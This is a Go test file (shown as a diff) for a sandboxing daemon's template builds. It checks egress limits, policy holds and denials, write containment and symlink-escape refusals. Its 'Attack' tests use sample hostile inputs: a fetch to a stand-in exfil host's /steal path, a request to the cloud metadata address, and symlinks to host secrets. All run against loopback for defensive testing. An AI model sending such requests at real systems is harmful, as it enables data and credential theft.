@@ -1,0 +1,462 @@
+package templatebuild_test
+
+import (
+	"archive/tar"
+	"bytes"
+	"context"
+	"crypto/rand"
+	"encoding/hex"
+	"errors"
+	"fmt"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"net/netip"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/airlock-dev/airlock/internal/audit"
+	"github.com/airlock-dev/airlock/internal/daemon/stack"
+	"github.com/airlock-dev/airlock/internal/egress"
+	"github.com/airlock-dev/airlock/internal/errdefs"
+	"github.com/airlock-dev/airlock/internal/manager"
+	"github.com/airlock-dev/airlock/internal/policy"
+	"github.com/airlock-dev/airlock/internal/redact"
+	"github.com/airlock-dev/airlock/internal/runtime/native"
+	"github.com/airlock-dev/airlock/internal/store"
+	"github.com/airlock-dev/airlock/internal/template"
+	"github.com/airlock-dev/airlock/internal/template/layertar"
+	"github.com/airlock-dev/airlock/internal/templatebuild"
+	"github.com/airlock-dev/airlock/internal/testroot"
+)
+
+func TestMain(m *testing.M) {
+	native.MaybeInit()
+	os.Exit(m.Run())
+}
+
+// fakeNet resolves the test's names to loopback and dials only the
+// registry upstream's port there: no test traffic can go anywhere else,
+// even if a guard were broken.
+type fakeNet struct {
+	t    *testing.T
+	port int
+	mu   sync.Mutex
+	dial []string
+}
+
+func (f *fakeNet) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
+	if strings.HasSuffix(host, ".example.test") {
+		return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
+	}
+	return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
+}
+
+func (f *fakeNet) DialContext(ctx context.Context, network, address string) (net.Conn, error) {
+	f.mu.Lock()
+	f.dial = append(f.dial, address)
+	f.mu.Unlock()
+	if address != "127.0.0.1:"+strconv.Itoa(f.port) {
+		f.t.Errorf("the proxy dialed %s: only the test's registry may be dialed", address)
+		return nil, fmt.Errorf("test dialer: %s is not the test registry", address)
+	}
+	var d net.Dialer
+	return d.DialContext(ctx, network, address)
+}
+
+func (f *fakeNet) dialed() int {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	return len(f.dial)
+}
+
+// tool is a static helper in the base root: fetch URL (through the
+// environment's proxy; prints the body, exits 3 unless 200), write PATH
+// TEXT, ln TARGET PATH, hold (does nothing: the policy holds it).
+const tool = `package main
+
+import (
+	"fmt"
+	"io"
+	"net/http"
+	"os"
+)
+
+func main() {
+	switch os.Args[1] {
+	case "fetch":
+		r, err := http.Get(os.Args[2])
+		if err != nil {
+			fmt.Println(err)
+			os.Exit(3)
+		}
+		b, _ := io.ReadAll(r.Body)
+		os.Stdout.Write(b)
+		if r.StatusCode != 200 {
+			os.Exit(3)
+		}
+	case "write":
+		if err := os.WriteFile(os.Args[2], []byte(os.Args[3]), 0o644); err != nil {
+			fmt.Println(err)
+			os.Exit(4)
+		}
+	case "ln":
+		if err := os.Symlink(os.Args[2], os.Args[3]); err != nil {
+			fmt.Println(err)
+			os.Exit(5)
+		}
+	}
+}
+`
+
+// baseRoot is a tiny real root: the host's sh and the C library it needs,
+// and the static tool built here.
+func baseRoot(t *testing.T) []byte {
+	t.Helper()
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "t.go"), []byte(tool), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	cmd := exec.Command("go", "build", "-o", filepath.Join(dir, "t"), filepath.Join(dir, "t.go"))
+	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Fatalf("build tool: %v\n%s", err, out)
+	}
+	files := map[string]string{"bin/sh": "/bin/sh", "bin/t": filepath.Join(dir, "t"),
+		"lib/x86_64-linux-gnu/libc.so.6": "/lib/x86_64-linux-gnu/libc.so.6", "lib64/ld-linux-x86-64.so.2": "/lib64/ld-linux-x86-64.so.2"}
+	var b bytes.Buffer
+	tw := tar.NewWriter(&b)
+	for _, d := range []string{"bin", "lib", "lib/x86_64-linux-gnu", "lib64", "etc", "tmp"} {
+		mode := int64(0o755)
+		if d == "tmp" {
+			mode = 0o1777
+		}
+		tw.WriteHeader(&tar.Header{Name: d + "/", Typeflag: tar.TypeDir, Mode: mode})
+	}
+	for name, host := range files {
+		real, err := filepath.EvalSymlinks(host)
+		if err != nil {
+			testroot.Unavailable(t, "a host file for the test root: "+err.Error())
+		}
+		data, err := os.ReadFile(real)
+		if err != nil {
+			t.Fatal(err)
+		}
+		tw.WriteHeader(&tar.Header{Name: name, Typeflag: tar.TypeReg, Mode: 0o755, Size: int64(len(data))})
+		tw.Write(data)
+	}
+	tw.Close()
+	return b.Bytes()
+}
+
+type rig struct {
+	t     *testing.T
+	tpls  *template.Store
+	stk   *stack.Stack
+	log   *audit.Log
+	net   *fakeNet
+	reg   string // the registry's host:port (the "npm" preset's)
+	hits  chan string
+	dir   string
+	ctxOK string // a context directory
+}
+
+// The daemon's policy: allow what the steps run but hold "t hold" and
+// deny "t nuke"; loopback opened for the registry's port only (the
+// preset names the registry's host; the guard needs its address opened).
+const testPolicy = `
+classes: {read: allow, verify: allow, build: allow, write: allow, dependency: allow, network: allow, destructive: allow, secret: deny, unknown: allow, persist: allow}
+rules:
+  - {id: hold-deploy, command: 't hold *', action: ask}
+  - {id: no-nuke, command: 't nuke *', action: deny}
+egress:
+  rules:
+    - {id: test-upstream, action: allow, cidrs: [127.0.0.1/32], ports: [PORT]}
+`
+
+func newRig(t *testing.T) *rig {
+	t.Helper()
+	testroot.Need(t, "layers are unpacked as host root and steps run in native sandboxes")
+	dir := t.TempDir()
+	_ = os.Chmod(dir, 0o711)
+	_ = os.Chmod(filepath.Dir(dir), 0o711)
+	r := &rig{t: t, dir: dir, hits: make(chan string, 64)}
+	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
+		r.hits <- req.URL.Path
+		fmt.Fprintf(w, "package %s", req.URL.Path)
+	}))
+	t.Cleanup(up.Close)
+	port := up.Listener.Addr().(*net.TCPAddr).Port
+	r.net = &fakeNet{t: t, port: port}
+	r.reg = "reg.example.test:" + strconv.Itoa(port)
+	var rb [4]byte
+	_, _ = rand.Read(rb[:])
+	be, err := native.New(native.Config{StateDir: filepath.Join(dir, "state"), CgroupParent: "airlock-tbuild-" + hex.EncodeToString(rb[:]), DieWithOwner: true})
+	if err != nil {
+		testroot.Unavailable(t, "the native backend: "+err.Error())
+	}
+	if r.tpls, err = template.Open(filepath.Join(dir, "templates")); err != nil {
+		t.Fatal(err)
+	}
+	id, err := r.tpls.UnpackLayer("", bytes.NewReader(baseRoot(t)), layertar.Limits{}, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	img := &template.Image{Name: "base", Kind: "image", Source: "test", Digest: "sha256:" + strings.Repeat("b", 64), Platform: "linux/amd64", Layers: []template.ImageLayer{{DiffID: id}}}
+	if img.AirlockLayer, err = r.tpls.AirlockLayer([]string{id}); err != nil {
+		t.Fatal(err)
+	}
+	if err := r.tpls.PutImage(img); err != nil {
+		t.Fatal(err)
+	}
+	st, err := store.Open(filepath.Join(dir, "airlock.db"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	red := redact.New()
+	if r.log, err = audit.Open(context.Background(), audit.Config{Store: st, Redactor: red, KeyFile: filepath.Join(dir, "audit.key")}); err != nil {
+		t.Fatal(err)
+	}
+	pol, err := policy.Parse([]byte(strings.ReplaceAll(testPolicy, "PORT", strconv.Itoa(port))))
+	if err != nil {
+		t.Fatal(err)
+	}
+	cfg := stack.Config{Config: manager.Config{Backend: be, Templates: r.tpls, Store: st, Audit: r.log, Redactor: red, Policy: pol, Logf: t.Logf},
+		TaskDir: filepath.Join(dir, "tasks"), SnapshotDir: filepath.Join(dir, "snapshots"), ApprovalWait: 300 * time.Millisecond,
+		Egress: &egress.Config{Resolver: r.net, Dialer: r.net, Presets: egress.Presets{"npm": {r.reg}}}}
+	if r.stk, err = stack.New(context.Background(), cfg); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		_ = r.stk.Manager.Shutdown(context.Background())
+		_ = st.Close()
+		if c, err := be.Census(); err == nil && (c.StateDirs != 0 || c.Cgroups != 0 || c.Mounts != 0) {
+			t.Errorf("leftovers after the test: %+v", c)
+		}
+		_ = be.RemoveCgroupParent()
+	})
+	r.ctxOK = filepath.Join(dir, "ctx")
+	_ = os.MkdirAll(r.ctxOK, 0o755)
+	return r
+}
+
+// build writes src as a build file and builds it through the daemon.
+func (r *rig) build(name, src string) (*templatebuild.Result, []string, error) {
+	r.t.Helper()
+	file := filepath.Join(r.dir, name+".template")
+	if err := os.WriteFile(file, []byte(src), 0o644); err != nil {
+		r.t.Fatal(err)
+	}
+	var lines []string
+	res, err := r.stk.Builds.Build(context.Background(), name, file, r.ctxOK, func(l string) { lines = append(lines, l) })
+	return res, lines, err
+}
+
+// events are the audit events of the build's step sandboxes (by their
+// label on sandbox.create) and of those sandboxes.
+func (r *rig) events(sandboxID string) []*audit.Event {
+	r.t.Helper()
+	evs, err := r.log.Query(context.Background(), store.AuditFilter{SandboxID: sandboxID})
+	if err != nil {
+		r.t.Fatal(err)
+	}
+	return evs
+}
+
+func hasKind(evs []*audit.Event, kind, needle string) bool {
+	for _, e := range evs {
+		if e.Kind == kind && (strings.Contains(string(e.Payload), needle) || e.ExecID == needle) {
+			return true
+		}
+	}
+	return false
+}
+
+// A build's RUN reaches the registry its egress: preset names through the
+// daemon's proxy; the step's sandbox and exec are on the audit log with
+// the build's label, and the template's record names what was fetched
+// (host, path, bytes). A cached rebuild records the same provenance.
+func TestBuildThroughTheDaemon(t *testing.T) {
+	r := newRig(t)
+	src := "FROM base\negress: npm\nRUN t fetch http://" + r.reg + "/left-pad/-/left-pad-1.3.0.tgz > /workspace/pkg.tgz\n"
+	res, lines, err := r.build("withpkg", src)
+	if err != nil {
+		t.Fatalf("build: %v (%q)", err, lines)
+	}
+	if got := <-r.hits; got != "/left-pad/-/left-pad-1.3.0.tgz" {
+		t.Fatalf("the registry saw %q", got)
+	}
+	img, err := r.tpls.Image("withpkg")
+	if err != nil {
+		t.Fatal(err)
+	}
+	step := img.Build.Steps[0]
+	if step.Sandbox == "" || step.Exec == "" || len(step.Fetched) != 1 {
+		t.Fatalf("provenance: %+v", step)
+	}
+	f := step.Fetched[0]
+	if f.Host != "reg.example.test" || f.Path != "/left-pad/-/left-pad-1.3.0.tgz" || f.Decision != "allow" || f.Rule != "preset-npm" || f.Status != 200 || f.BytesIn == 0 {
+		t.Errorf("fetched: %+v", f)
+	}
+	evs := r.events(step.Sandbox)
+	if !hasKind(evs, "sandbox.create", `"airlock.build":"withpkg"`) || !hasKind(evs, "exec.start", step.Exec) || !hasKind(evs, "egress.request", "left-pad") {
+		var kinds []string
+		for _, e := range evs {
+			kinds = append(kinds, e.Kind+" "+string(e.Payload))
+		}
+		t.Errorf("audit log of the step's sandbox: %v", kinds)
+	}
+	// the layer has what the step fetched
+	tpl, err := r.tpls.Get("withpkg")
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := false
+	for _, l := range append([]string{tpl.Dir}, tpl.Lowers...) {
+		if b, err := os.ReadFile(filepath.Join(l, "workspace", "pkg.tgz")); err == nil && strings.HasPrefix(string(b), "package /left-pad") {
+			found = true
+		}
+	}
+	if !found {
+		t.Errorf("the fetched file is not in the template's layers")
+	}
+	again, _, err := r.build("withpkg", src)
+	if err != nil || !again.Same || again.Cached != 1 || again.Digest != res.Digest {
+		t.Fatalf("cached rebuild: %+v %v", again, err)
+	}
+	img2, _ := r.tpls.Image("withpkg")
+	if img2.Hash != img.Hash || len(img2.Build.Steps[0].Fetched) != 1 {
+		t.Errorf("a cached rebuild's record differs: %+v", img2.Build.Steps[0])
+	}
+}
+
+// Attack: a RUN reaches for a host its preset does not name (and for the
+// registry without the egress: section). The proxy refuses both before
+// any dial, the build fails and leaves no template, and the refusals are
+// the audit log's.
+func TestBuildEgressOutsideThePreset(t *testing.T) {
+	r := newRig(t)
+	port := strings.Split(r.reg, ":")[1]
+	for name, src := range map[string]string{
+		"other":     "FROM base\negress: npm\nRUN t fetch http://exfil.example.test:" + port + "/steal\n",
+		"nopreset":  "FROM base\nRUN t fetch http://" + r.reg + "/left-pad\n",
+		"literalip": "FROM base\negress: npm\nRUN t fetch http://169.254.169.254/latest/meta-data/\n",
+	} {
+		before := r.net.dialed()
+		_, lines, err := r.build(name, src)
+		if err == nil || !strings.Contains(err.Error(), "exited 3") {
+			t.Errorf("%s: %v (%q)", name, err, lines)
+		}
+		if _, err := r.tpls.Image(name); err == nil {
+			t.Errorf("%s: a failed build left a template", name)
+		}
+		if d := r.net.dialed(); d != before {
+			t.Errorf("%s: the proxy dialed for a refused request", name)
+		}
+		if !strings.Contains(strings.Join(lines, "\n"), "not in this sandbox's egress policy (rule default-deny)") {
+			t.Errorf("%s: the step's output does not show the refusal: %q", name, lines)
+		}
+	}
+	if n, err := r.log.Query(context.Background(), store.AuditFilter{Kind: "egress.request"}); err != nil || !hasKind(n, "egress.request", `"decision":"deny"`) {
+		t.Errorf("no refusal on the audit log: %v", err)
+	}
+}
+
+// Attack: a held command in a RUN fails the build naming its approval;
+// a denied one names the denial. Neither leaves a template.
+func TestBuildPolicyRefusals(t *testing.T) {
+	r := newRig(t)
+	_, _, err := r.build("held", "FROM base\nRUN t hold now\n")
+	if err == nil || !strings.Contains(err.Error(), "approval ") || !strings.Contains(err.Error(), "hold-deploy") {
+		t.Errorf("held: %v", err)
+	}
+	_, _, err = r.build("denied", "FROM base\nRUN t nuke all\n")
+	if err == nil || !errors.Is(err, errdefs.ErrDenied) || !strings.Contains(err.Error(), "policy_denied") {
+		t.Errorf("denied: %v", err)
+	}
+	for _, n := range []string{"held", "denied"} {
+		if _, err := r.tpls.Image(n); err == nil {
+			t.Errorf("%s: a refused build left a template", n)
+		}
+	}
+}
+
+// Attack: a RUN writes outside /workspace and /home/sandbox (the
+// sandbox's /etc, /tmp), plants symlinks to the host's paths, and writes
+// through them; the template has only its two trees (the symlinks as
+// symlinks), and nothing reached the host.
+func TestBuildRunWritesOutsideItsLayer(t *testing.T) {
+	r := newRig(t)
+	var nb [6]byte
+	_, _ = rand.Read(nb[:])
+	mark := "airlock-tbuild-" + hex.EncodeToString(nb[:])
+	hostTmp := filepath.Join("/tmp", mark)
+	src := "FROM base\n" +
+		"RUN t write /tmp/" + mark + " x; t write /etc/" + mark + " x; t write /workspace/ok yes; t ln /tmp /workspace/up; t ln " + r.dir + " /workspace/hostdir; true\n" +
+		"RUN t write /workspace/up/" + mark + "-2 x; t write /workspace/hostdir/" + mark + " x; true\n"
+	if _, lines, err := r.build("writer", src); err != nil {
+		t.Fatalf("build: %v %q", err, lines)
+	}
+	for _, p := range []string{hostTmp, hostTmp + "-2", filepath.Join(r.dir, mark), filepath.Join("/etc", mark)} {
+		if _, err := os.Lstat(p); err == nil {
+			t.Errorf("the build wrote %s on the host", p)
+			_ = os.Remove(p)
+		}
+	}
+	tpl, err := r.tpls.Get("writer")
+	if err != nil {
+		t.Fatal(err)
+	}
+	ok := false
+	for _, l := range append([]string{tpl.Dir}, tpl.Lowers...) {
+		for _, p := range []string{"tmp/" + mark, "etc/" + mark, "tmp/" + mark + "-2"} {
+			if _, err := os.Lstat(filepath.Join(l, p)); err == nil {
+				t.Errorf("layer %s has %s", l, p)
+			}
+		}
+		if fi, err := os.Lstat(filepath.Join(l, "workspace", "up")); err == nil && fi.Mode()&os.ModeSymlink == 0 {
+			t.Errorf("workspace/up is not a symlink in %s", l)
+		}
+		if _, err := os.Stat(filepath.Join(l, "workspace", "ok")); err == nil {
+			ok = true
+		}
+	}
+	if !ok {
+		t.Errorf("the step's own write is not in the template")
+	}
+}
+
+// Attack: COPY of a context symlink that leads out of the context (to
+// the daemon host's files, read as root) is refused; no template.
+func TestBuildContextSymlinkEscape(t *testing.T) {
+	r := newRig(t)
+	secret := filepath.Join(r.dir, "host-secret")
+	if err := os.WriteFile(secret, []byte("root only"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(secret, filepath.Join(r.ctxOK, "f")); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(r.dir, filepath.Join(r.ctxOK, "d")); err != nil {
+		t.Fatal(err)
+	}
+	for name, src := range map[string]string{"viafile": "FROM base\nCOPY f /workspace/f\n", "viadir": "FROM base\nCOPY d/host-secret /workspace/f\n"} {
+		_, _, err := r.build(name, src)
+		if err == nil {
+			t.Errorf("%s: copied through a symlink out of the context", name)
+		}
+		if _, ierr := r.tpls.Image(name); ierr == nil {
+			t.Errorf("%s: left a template", name)
+		}
+	}
+	// and a relative build file path is refused (the daemon's paths are its own)
+	if _, err := r.stk.Builds.Build(context.Background(), "rel", "airlock.template", "", nil); !errors.Is(err, errdefs.ErrInvalid) {
+		t.Errorf("relative file: %v", err)
+	}
+}
